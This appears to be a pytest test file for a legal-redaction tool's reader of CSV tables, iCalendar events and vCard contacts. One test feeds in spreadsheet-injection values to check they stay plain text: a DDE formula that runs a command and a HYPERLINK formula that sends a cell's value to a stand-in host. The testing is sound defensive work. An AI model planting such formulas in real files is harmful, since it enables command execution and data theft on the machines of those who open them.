"""Tables, calendars and contacts: every value is read once, in its place."""

import base64

import pytest

from legalredact.detection.rules.table_columns import in_columns
from legalredact.documents.read import read_file
from legalredact.errors import EmptyInput
from legalredact.model.document import BlockKind, Document, UnreadReason


def _blocks(document: Document) -> list[tuple[BlockKind, str]]:
    return [(block.kind, document.text_of(block)) for block in document.blocks]


@pytest.mark.parametrize(
    "content",
    [
        'Last,First,Note\r\nRoe,Jane,"said, ""no"""\r\n',
        'sep=;\r\nLast;First;Note\r\nRoe;Jane;"said, ""no"""\r\n',
        'Last\tFirst\tNote\nRoe\tJane\tsaid, "no"\n',
    ],
)
def test_a_row_is_a_line_of_cells_below_its_headings(content: str) -> None:
    document = read_file(content.encode("utf-16"), name="people.csv")
    assert _blocks(document) == [(BlockKind.TABLE_CELL, 'Last\tFirst\tNote\nRoe\tJane\tsaid, "no"')]


def test_detection_sees_the_columns_of_a_table() -> None:
    rows = "".join(f"{last},{first},{amount}\r\n" for last, first, amount in [("Young", "Hope", 5), ("Long", "Art", 7)])
    document = read_file(f"Last Name,First Name,Amount\r\n{rows}".encode(), name="x.csv")
    assert [found.span.of(document.text) for found in in_columns(document.text)] == ["Young\tHope", "Long\tArt"]


def test_cells_of_several_lines_are_blocks_of_their_own_and_an_open_quote_loses_nothing() -> None:
    document = read_file(b'Name,Note\nRoe,"one\n\ntwo"\nDoe,"never closed\nOtto Brack,x\n', name="x.csv")
    assert [text for _, text in _blocks(document)] == [
        "Name\tNote\nRoe\t", "one", "two", "Doe\t", "never closed\nOtto Brack,x",
    ]  # fmt: skip


def test_formulas_and_links_of_a_table_are_text() -> None:
    document = read_file(
        b'A,B\n"=HYPERLINK(""http://x.test/?q=""&A1,""Ann Roe"")",=cmd|\' /C calc\'!A0\n', name="x.csv"
    )
    assert '=HYPERLINK("http://x.test/?q="&A1,"Ann Roe")' in document.text


def test_every_property_of_an_event_is_read_with_the_people_in_its_parameters() -> None:
    calendar = (
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nX-WR-CALNAME:Una's days\r\nBEGIN:VEVENT\r\nSUMMARY:Meet Ann\\, Otto\r\n"
        'ATTENDEE;CN="Roe, Jane";SENT-BY="mailto:otto@brack.test":mailto:jane@roe.test\r\nDESCRIPTION:long te\r\n'
        " xt\\nnext\r\nX-ALT-DESC;FMTTYPE=text/html:<html><body>Ines <b>Mar</b>low</body></html>\r\nno property\r\n"
        "ATTACH;ENCODING=BASE64;VALUE=BINARY:QUJD\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
    )
    document = read_file(calendar.encode(), name="x")
    shown = "Subject: Meet Ann, Otto\nAttendee: Roe, Jane <jane@roe.test>\nDescription: long text\nnext\nno property"
    assert (BlockKind.BODY, "Calendar: Una's days") in _blocks(document)
    assert (BlockKind.BODY, shown) in _blocks(document)
    beside = "\n".join(text for kind, text in _blocks(document) if kind is BlockKind.PROPERTY)
    assert "Ines Marlow" in beside
    assert "otto@brack.test" in beside
    assert [part.reason for part in document.unread] == [UnreadReason.UNKNOWN_PART, UnreadReason.EMBEDDED_FILE]


def test_contacts_of_every_version_are_read_and_their_pictures() -> None:
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><text>drawn Sepia</text></svg>'
    photo = base64.b64encode(drawing).decode()
    contacts = (
        "BEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:R=C3=B6e;J=\r\n=C3=A1ne;;;\r\n"
        "TEL;CELL:+1 555 010 0199\r\nEND:VCARD\r\nBEGIN:VCARD\r\nVERSION:3.0\r\n"
        "item1.ADR;TYPE=HOME:;;1 Main St;Town;;;\r\n"
        f"PHOTO;ENCODING=b;TYPE=SVG:{photo}\r\nEND:VCARD\r\n"
        "BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Otto Brack\r\nKEY:data:application/pgp-keys;base64,QUJD\r\nEND:VCARD\r\n"
    )
    document = read_file(contacts.encode(), name="x")
    shown = [text for kind, text in _blocks(document) if kind is BlockKind.BODY]
    assert shown == [
        "Name in parts: Röe, Jáne\nTelephone: +1 555 010 0199",
        "Address: 1 Main St, Town",
        "Name: Otto Brack",
    ]
    assert (BlockKind.PICTURE, "drawn Sepia") in _blocks(document)
    assert [part.detail for part in document.unread] == [
        "picture 1 of entry 2, drawn in lines (SVG)",
        "embedded file of entry 3, 1 KB",
    ]


def test_a_calendar_without_entries_is_refused() -> None:
    with pytest.raises(EmptyInput):
        read_file(b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n", name="x.ics")


def test_a_quoted_printable_value_of_very_many_lines_is_read_in_one_pass() -> None:
    card = "BEGIN:VCARD\r\nVERSION:2.1\r\nFN;ENCODING=QUOTED-PRINTABLE:Ida=\r\n" + "x=\r\n" * 400_000
    document = read_file(f"{card} Qu=C3=AEll\r\nNOTE:a=\r\nEND:VCARD\r\n".encode(), name="x.vcf")
    assert document.text.startswith(f"Name: Ida{'x' * 400_000}Quîll\n")
    assert "a=" in document.text
